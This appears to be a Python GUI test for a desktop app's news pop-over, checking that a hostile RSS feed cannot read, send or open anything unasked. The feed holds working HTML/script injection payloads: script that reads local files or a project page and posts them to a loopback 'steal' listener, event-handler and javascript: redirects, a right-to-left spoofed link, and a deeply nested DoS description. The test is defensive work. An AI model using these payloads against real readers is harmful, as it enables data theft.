#!/usr/bin/env python3
"""The news pop-over shows a feed's text as data. A stand-in hosting service on the loopback
serves a hostile feed: scripts that read local files or the service's pages and send them on,
event attributes, frames, images, a refresh, a script that sends the view to a kr://link address,
links to file: and javascript: addresses, and a base address of file:///etc/ (then, at a second
start, of the stand-in itself, as a previewed project's server would be). Opening News from the
toolbar sends nothing anywhere and opens no browser; a click on an http link in the news opens
exactly that address in the browser, a click on a file: link opens nothing. Before any of that,
with no service address set, the pop-over says there is no news and where news comes from.
Then, at two more starts: a large ordinary feed (whose page is too long for a data: address) is
shown whole, and the pointer over a link whose text a right-to-left override turns into another
address shows the address a click opens, which the click opens; a feed whose description nests
<div> 280,000 deep leaves the window answering (its menu opens) while the pop-over makes the news
safe, which then shows. Last, while a slow feed is on its way the pop-over says something else
than where news comes from and shows the news once it arrives, and after a failed download it
says so rather than where news comes from."""

import os
import sys
import threading
import time
import urllib.parse
from xml.sax.saxutils import escape

import krdesktop as kd

# The colour a link of a description is drawn in (the engine's default for links).
LINK_BLUE = (0, 0, 238)


def hostile_items(port, base):
    """The feed's items: (title, description, link). The first item's description ends in a file:
    link over an http link, each on a line of its own."""
    steal = f"http://127.0.0.1:{port}/steal"
    kr_link = "'kr://link?newsItemID=0&url=' + encodeURIComponent('" + steal + "?d=' + encodeURIComponent(data))"
    script = ("<script>var data = 'none';"
              "try { var r = new XMLHttpRequest(); r.open('GET', '" + ("hostname" if base.startswith("file:") else "secret")
              + "', false); r.send(); data = r.responseText; } catch (e) { data = 'error ' + e; }"
              "try { var s = new XMLHttpRequest(); s.open('POST', '" + steal + "?xhr', false); s.send(data); } catch (e) {}"
              "try { localStorage.setItem('stolen', data); } catch (e) {}"
              "location = " + kr_link + ";</script>")
    first = (script
             + f"<p>Read this <b>first</b>.</p>"
             + f"<img src=\"{steal}?img\" onerror=\"location = 'kr://link?newsItemID=0&amp;url=' + encodeURIComponent('{steal}?onerror')\">"
             + f"<iframe src=\"{steal}?frame\"></iframe>"
             + f"<meta http-equiv=\"refresh\" content=\"0;url={steal}?refresh\">"
             + f"<p style=\"background: url({steal}?style)\">Styled</p>"
             + f"<a href=\"javascript:location='{steal}?javascript'\">Script link</a>"
             + f"<h1><a href=\"file:///etc/hostname\">Local file</a></h1>"
             + f"<h1><a href=\"http://127.0.0.1:{port}/clicked?item=1\">Read more</a></h1>")
    second = (f"<p onmouseover=\"location='{steal}?hover'\">Second item</p>"
              f"<form action=\"{steal}?form\"><input name=q value=x><button>Go</button></form>")
    return [("Hostile news", first, "https://news.example.invalid/1"),
            ("Quiet news", second, "https://news.example.invalid/2")]


def rss(port, base):
    items = "".join(
        f"<item><title>{escape(title)}</title><description>{escape(description)}</description>"
        f"<published>Tue Dec 01 10:30:00 +0000 2026</published><link>{escape(link)}</link></item>"
        for title, description, link in hostile_items(port, base))
    return ("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>News</title>"
            f"<link>{escape(base)}</link>{items}</channel></rss>").encode()


# The item whose link's text reads as an address other than its own: the override turns the
# letters after it around, so it shows "https://www.example.org".
SPOOFED_TEXT = "\u202Egro.elpmaxe.www//:sptth"
BIG_FEED_ITEMS = 420
DEEP_LEVELS = 280000


def cdata_item(title, description, link):
    return (f"<item><title>{escape(title)}</title><description><![CDATA[{description}]]></description>"
            f"<published>Tue Dec 01 10:30:00 +0000 2026</published><link>{escape(link)}</link></item>")


def cdata_rss(items):
    return ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>News</title>"
            "<link>https://news.example.invalid/</link>" + "".join(items) + "</channel></rss>").encode()


def big_rss(port):
    """An ordinary feed of about 1.08 MB: many items of paragraphs in Russian, the first item with
    the spoofed link."""
    paragraph = "<p>Новости для всех — обновления и исправления &amp; улучшения, номер {n}.</p>"
    items = [cdata_item("Spoofed news", f"<p>Download <a href=\"http://127.0.0.1:{port}/opened\">{SPOOFED_TEXT}</a></p>",
                        "https://news.example.invalid/spoofed")]
    for i in range(1, BIG_FEED_ITEMS):
        text = "".join(paragraph.format(n=i * 100 + k) for k in range(18))
        items.append(cdata_item(f"Item {i}", text, f"https://news.example.invalid/{i}"))
    feed = cdata_rss(items)
    # Under the feed limit (2 MB), yet far too long once percent-encoded into a data: address.
    assert 1000000 < len(feed) < 2 * 1024 * 1024, len(feed)
    assert len(urllib.parse.quote(feed, safe="")) > 2.5 * 1024 * 1024
    return feed


def plain_rss(port):
    return cdata_rss([cdata_item("Plain news", f"<p>Read <a href=\"http://127.0.0.1:{port}/plain\">this</a>.</p>",
                                 "https://news.example.invalid/plain")])


def deep_rss(port):
    """A feed of about 1.4 MB whose one description starts with a link and nests <div> 280,000 deep
    around its last line."""
    description = (f"<p><a href=\"http://127.0.0.1:{port}/deep\">Read more</a></p>" + "<div>" * DEEP_LEVELS
                   + "The bottom line.")
    feed = cdata_rss([cdata_item("Deep news", description, "https://news.example.invalid/deep")])
    assert 1300000 < len(feed) < 2 * 1024 * 1024, len(feed)
    return feed


class StandIn(kd.StandInService):
    """The hosting service at /api.php (feedURL only), the feed at /feed.xml (the hostile one, a
    big or a deep one), a page of a "previewed project" at /secret; every request is kept
    (method, path and query)."""

    def __init__(self):
        super().__init__(StandInHandler)
        self.base = "file:///etc/"
        self.feed = "hostile"
        self.release = threading.Event()  # lets a "slow" feed go

    def stolen(self):
        """Requests no page of the news should ever make: to the "steal" listener or for the
        project's page."""
        with self.lock:
            return [r for r in self.requests if r["path"] in ("/steal", "/secret", "/clicked")]

    def forget(self):
        with self.lock:
            self.requests.clear()


class StandInHandler(kd.StandInHandler):
    def answer(self, body, kind):
        super().answer(body, kind, [("Access-Control-Allow-Origin", "*")])

    def reply(self, path, call):
        if path == "/api.php":
            self.answer(b'{"result": "OK", "feedURL": "feed.xml"}', "application/json")
        elif path == "/feed.xml" and self.server.feed == "broken":
            self.send_error(500)
        elif path == "/feed.xml":
            if self.server.feed == "slow":
                self.server.release.wait(60)
            feeds = {"hostile": lambda port: rss(port, self.server.base), "big": big_rss, "deep": deep_rss,
                     "slow": plain_rss}
            self.answer(feeds[self.server.feed](self.server.port), "application/rss+xml")
        elif path == "/secret":
            self.answer(b"the project's own page", "text/plain")
        else:
            self.answer(b"", "text/plain")


def blue(colour):
    return kd.near(colour, LINK_BLUE, 60)


def ink(colour):
    return blue(colour) or sum(colour) / 3 < 110


def grey(colour):
    """The grey of the text the pop-over shows when it has no news."""
    return sum(colour) / 3 < 180


def ink_lines(desktop, rect, ink=ink):
    """The lines drawn in rect, top to bottom: (top, bottom, left, right, blue pixels) of each band
    of rows holding dark or link-blue pixels, in screen coordinates."""
    image = desktop.grab(rect)
    lines, current = [], None
    for row in range(image.y, image.y + image.height):
        xs = [x for x in range(image.x, image.x + image.width) if ink(image.pixel(x, row))]
        blues = sum(1 for x in xs if blue(image.pixel(x, row)))
        if xs:
            if current is None:
                current = [row, row, min(xs), max(xs), blues]
            else:
                current[1], current[2], current[3] = row, min(current[2], min(xs)), max(current[3], max(xs))
                current[4] += blues
        elif current is not None:
            lines.append(tuple(current))
            current = None
    if current is not None:
        lines.append(tuple(current))
    # A link's underline, a few rows under its letters, belongs to its line.
    merged = []
    for line in lines:
        if merged and line[0] - merged[-1][1] <= 4:
            last = merged[-1]
            merged[-1] = (last[0], line[1], min(last[2], line[2]), max(last[3], line[3]), last[4] + line[4])
        else:
            merged.append(line)
    return merged


def nothing_done_unasked(service, record, opened_before):
    """Fails when the browser was asked to open something or the news sent requests of its own."""
    kd.check(len(kd.opened(record)) == opened_before,
             f"the browser was asked to open {kd.opened(record)[opened_before:]} with no click")
    kd.check(not service.stolen(), f"the news sent requests of its own: {service.stolen()}")


def open_news(desktop, window, service, record):
    """Clicks the toolbar's News button and waits for the news drawn in the pop-over, failing
    as soon as the feed's text does anything on its own; returns the pop-over's window number,
    its rectangle and the rectangle of its text."""
    opened_before = len(kd.opened(record))
    number, (x, y, w, h), body = show_news(desktop, window)
    def drawn():
        nothing_done_unasked(service, record, opened_before)
        lines = ink_lines(desktop, body)
        return any(line[4] >= 20 for line in lines) and lines == ink_lines(desktop, body)
    kd.wait_until(drawn, "the news drawn in the pop-over, with its blue link")
    desktop.log(f"news pop-over {w}x{h} at {(x, y)}")
    return number, (x, y, w, h), body


def close_news(desktop, number):
    """Closes the pop-over by a click outside it, on the window's title bar (the page inside
    keeps the keyboard once clicked)."""
    desktop.input.glide(400, 8)
    desktop.input.click(400, 8)
    kd.wait_until(lambda: number not in desktop.override_windows(), "the news pop-over to close")


def show_news(desktop, window):
    """Clicks the toolbar's News button; returns the pop-over's window number, its rectangle and
    the rectangle of its text."""
    button = desktop.wait_for(window, "push button", "News", "the toolbar's News button")
    desktop.activate_if_needed(window)
    number, (x, y, w, h) = kd.popup_brought_up(desktop, lambda: desktop.click(button), "the news pop-over", 20)
    body = (x + 10, y + 10, w - 20, h - 60)
    return number, (x, y, w, h), body


def start_without_a_service(desktop):
    """With no service address set there is no news: the pop-over says so, and where news comes
    from, rather than showing an empty box."""
    # The suite's settings point the service at a closed port; here no address is set at all.
    path = os.path.join(desktop.env["XDG_CONFIG_HOME"], "Korvane", "Korvane.conf")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as out:
        out.write("[General]\napiURL=\ninsecureSiteURL=\n")
    desktop.launch()
    window = kd.project_window(desktop, "Untitled")
    kd.close_gallery(desktop)
    number, (x, y, w, h), body = show_news(desktop, window)
    try:
        # The text is grey: any pixel well darker than the pop-over's ground.
        kd.wait_until(lambda: kd.grab_count(desktop, body, grey) >= 200,
                      "the empty news to say why it is empty", timeout=10)
    finally:
        desktop.screenshot("no-service-news")
    lines = stable_lines(desktop, body)
    desktop.log(f"lines of the news without a service: {lines}")
    close_news(desktop, number)
    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")
    return lines


def stable_lines(desktop, body):
    """The grey lines of the pop-over's text once two looks agree."""
    def same():
        lines = ink_lines(desktop, body, grey)
        return lines if lines and lines == ink_lines(desktop, body, grey) else None
    return kd.wait_until(same, "the pop-over's text to settle")


def first_start(desktop, service, record):
    """With the feed's base at file:///etc/: nothing is sent or opened when the news shows; a click
    on the file: link opens nothing, a click on the http link opens exactly it."""
    desktop.launch()
    window = kd.project_window(desktop, "Untitled")
    kd.wait_until(lambda: service.fetched("/feed.xml"), "the feed fetched from the stand-in")
    number, rect, body = open_news(desktop, window, service, record)
    desktop.screenshot("hostile-news")
    lines = ink_lines(desktop, body)
    desktop.log(f"lines in the news: {lines}")
    # The http link is the last line drawn in link blue; the file: link is the line over it.
    links = [index for index, line in enumerate(lines) if line[4] >= 20]
    web = lines[links[-1]]
    kd.check(links[-1] > 0, "no line over the http link")
    local = lines[links[-1] - 1]
    desktop.input.glide((local[2] + local[3]) // 2, (local[0] + local[1]) // 2)
    desktop.input.click((local[2] + local[3]) // 2, (local[0] + local[1]) // 2)
    desktop.input.glide((web[2] + web[3]) // 2, (web[0] + web[1]) // 2)
    desktop.input.click((web[2] + web[3]) // 2, (web[0] + web[1]) // 2)
    # Clicks are taken in turn: once the http link's address is at the browser, anything the
    # page did on its own or for the file: link would be there before it.
    clicked = f"http://127.0.0.1:{service.port}/clicked?item=1"
    kd.wait_until(lambda: clicked in kd.opened(record), "the clicked link opened in the browser")
    desktop.screenshot("link-clicked")
    kd.check(kd.opened(record) == [clicked], f"the browser was asked to open {kd.opened(record)}, not only {clicked}")
    kd.check(not service.stolen(), f"the news sent requests of its own: {service.stolen()}")
    close_news(desktop, number)
    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")


def second_start(desktop, service, record):
    """With the feed's base at the stand-in itself (a previewed project's server): the feed's
    script reads none of its pages and sends nothing; no browser opens."""
    service.base = f"http://127.0.0.1:{service.port}/"
    service.forget()
    desktop.launch()
    # The gallery comes up at the first start only.
    window = kd.project_window(desktop, "Untitled")
    kd.wait_until(lambda: service.fetched("/feed.xml"), "the feed fetched again")
    before = len(kd.opened(record))
    number, rect, body = open_news(desktop, window, service, record)
    desktop.screenshot("hostile-news-served-base")
    # The mark of the first item: clicking it marks the item read and hides the mark, which
    # also tells that the page has answered everything asked of it before.
    x, y, w, h = rect
    marks = (x, y, 40, h - 60)
    red = lambda c: kd.near(c, (224, 84, 74), 50)
    kd.wait_until(lambda: kd.grab_count(desktop, marks, red) >= 10, "the unread marks")
    image = desktop.grab(marks)
    points = [(px, py) for py in range(image.y, image.y + image.height)
              for px in range(image.x, image.x + image.width) if red(image.pixel(px, py))]
    top = min(p[1] for p in points)
    first = [p for p in points if p[1] < top + 12]
    mx = sum(p[0] for p in first) // len(first)
    my = sum(p[1] for p in first) // len(first)
    before_marks = kd.grab_count(desktop, marks, red)
    desktop.input.glide(mx, my)
    desktop.input.click(mx, my)
    kd.wait_until(lambda: kd.grab_count(desktop, marks, red) < before_marks - 10, "the clicked mark to go")
    desktop.screenshot("mark-clicked")
    kd.check(len(kd.opened(record)) == before, f"the browser was asked to open {kd.opened(record)[before:]}")
    kd.check(not service.stolen(), f"the news sent requests of its own: {service.stolen()}")
    close_news(desktop, number)
    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")


def big_feed_start(desktop, service, record):
    """A large ordinary feed shows; the pointer over the spoofed link shows the address a click
    opens, and the click opens that address."""
    service.feed = "big"
    service.forget()
    desktop.launch()
    window = kd.project_window(desktop, "Untitled")
    kd.wait_until(lambda: service.fetched("/feed.xml"), "the big feed fetched")
    before = len(kd.opened(record))
    number, rect, body = open_news(desktop, window, service, record)
    desktop.screenshot("big-news")
    lines = ink_lines(desktop, body)
    link = next(line for line in lines if line[4] >= 20)
    x, y = (link[2] + link[3]) // 2, (link[0] + link[1]) // 2
    # The status line left of "Mark All Read" is empty until the pointer is over a link that
    # opens something; its text is checked by the unit tests, its showing here.
    px, py, pw, ph = rect
    status = (px + 10, py + ph - 42, pw - 140, 34)
    status_ink = lambda: kd.grab_count(desktop, status, ink)
    kd.check(status_ink() == 0, "the status line shows something before any link is under the pointer")
    desktop.input.glide(x, y)
    kd.wait_until(lambda: status_ink() >= 40, "the address of the link under the pointer shown", timeout=10)
    desktop.screenshot("spoofed-link-hovered")
    desktop.input.glide(px + pw // 2, py + ph - 60)
    kd.wait_until(lambda: status_ink() == 0, "the address gone once the pointer left the link", timeout=10)
    desktop.input.glide(x, y)
    kd.wait_until(lambda: status_ink() >= 40, "the address shown again over the link", timeout=10)
    expected = f"http://127.0.0.1:{service.port}/opened"
    desktop.input.click(x, y)
    kd.wait_until(lambda: len(kd.opened(record)) > before, "the clicked link opened in the browser")
    kd.check(kd.opened(record)[before:] == [expected],
             f"the browser was asked to open {kd.opened(record)[before:]}, not the shown {expected}")
    close_news(desktop, number)
    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")


def menu_opens(desktop, window, within):
    """Opens the window's first menu from the keyboard and closes it again; fails unless it opens
    within the given seconds."""
    import pyatspi
    desktop.activate_if_needed(window)
    bar = desktop.wait_for(window, "menu bar", what="the menu bar")
    started = time.monotonic()
    desktop.input.key("Alt_L")
    kd.wait_until(lambda: bar.has_state(pyatspi.STATE_FOCUSED), "the menu bar to take the keyboard", timeout=within)
    desktop.input.key("Down")
    kd.wait_until(lambda: bar.find("popup menu", into_menus=True), "the menu to open", timeout=within)
    took = time.monotonic() - started
    desktop.screenshot("menu-open-while-news-is-made")
    desktop.input.key("Escape")
    desktop.input.key("Escape")
    kd.wait_until(lambda: not bar.find("popup menu", into_menus=True), "the menu to close")
    return took


def deep_feed_start(desktop, service, record):
    """A feed nested 280,000 deep: the news pop-over comes up at once, the window's menu opens
    while the news is made, and the news then shows."""
    service.feed = "deep"
    service.forget()
    desktop.launch()
    window = kd.project_window(desktop, "Untitled")
    kd.wait_until(lambda: service.fetched("/feed.xml"), "the deep feed fetched")
    time.sleep(1)  # the feed read
    # The pop-over makes the news; meanwhile the window answers.
    number, rect, body = show_news(desktop, window)
    close_news(desktop, number)
    took = menu_opens(desktop, window, within=5)
    desktop.log(f"the menu opened {took:.2f} s after the news pop-over closed")
    number, rect, body = open_news(desktop, window, service, record)
    desktop.screenshot("deep-news")
    lines = ink_lines(desktop, body)
    desktop.log(f"lines in the news: {lines}")
    links = [index for index, line in enumerate(lines) if line[4] >= 20]
    kd.check(links and len(lines) > links[-1] + 1, "the description's last line, under the link, is not shown")
    close_news(desktop, number)
    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")


def slow_feed_start(desktop, service, record, no_service):
    """While the feed is on its way, the open pop-over says something else than where news comes
    from; it shows the news once it arrives."""
    service.feed = "slow"
    service.release.clear()
    service.forget()
    desktop.launch()
    window = kd.project_window(desktop, "Untitled")
    kd.wait_until(lambda: service.fetched("/feed.xml"), "the slow feed asked for")
    number, rect, body = show_news(desktop, window)
    try:
        kd.wait_until(lambda: kd.grab_count(desktop, body, grey) >= 50, "the pop-over to say the news is loading")
        lines = stable_lines(desktop, body)
        desktop.screenshot("news-loading")
        kd.check(lines != no_service, f"while loading, the pop-over says where news comes from, as if none was asked for: {lines}")
    finally:
        service.release.set()
    kd.wait_until(lambda: any(line[4] >= 20 for line in ink_lines(desktop, body)),
                  "the news shown in the open pop-over once it arrived")
    desktop.screenshot("news-arrived")
    close_news(desktop, number)
    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")


def failed_feed_start(desktop, service, record, no_service):
    """After the feed's download failed, the pop-over says so, not where news comes from."""
    service.feed = "broken"
    service.forget()
    desktop.launch()
    window = kd.project_window(desktop, "Untitled")
    kd.wait_until(lambda: service.fetched("/feed.xml"), "the broken feed asked for")
    time.sleep(0.5)  # its answer read
    number, rect, body = show_news(desktop, window)
    kd.wait_until(lambda: kd.grab_count(desktop, body, grey) >= 50, "the pop-over to say why there is no news")
    lines = stable_lines(desktop, body)
    desktop.screenshot("news-failed")
    kd.check(lines != no_service, f"after the feed failed, the pop-over says where news comes from, as if none was asked for: {lines}")
    close_news(desktop, number)
    kd.check(desktop.quit_app() == 0, "the application did not quit cleanly")


def news(desktop):
    service = StandIn()
    try:
        record = kd.catch_the_opener(desktop)
        no_service = start_without_a_service(desktop)
        kd.point_at_service(desktop, service.port)
        first_start(desktop, service, record)
        second_start(desktop, service, record)
        big_feed_start(desktop, service, record)
        deep_feed_start(desktop, service, record)
        slow_feed_start(desktop, service, record, no_service)
        failed_feed_start(desktop, service, record, no_service)
    finally:
        service.release.set()
        service.stop()


if __name__ == "__main__":
    sys.exit(kd.run([news]))
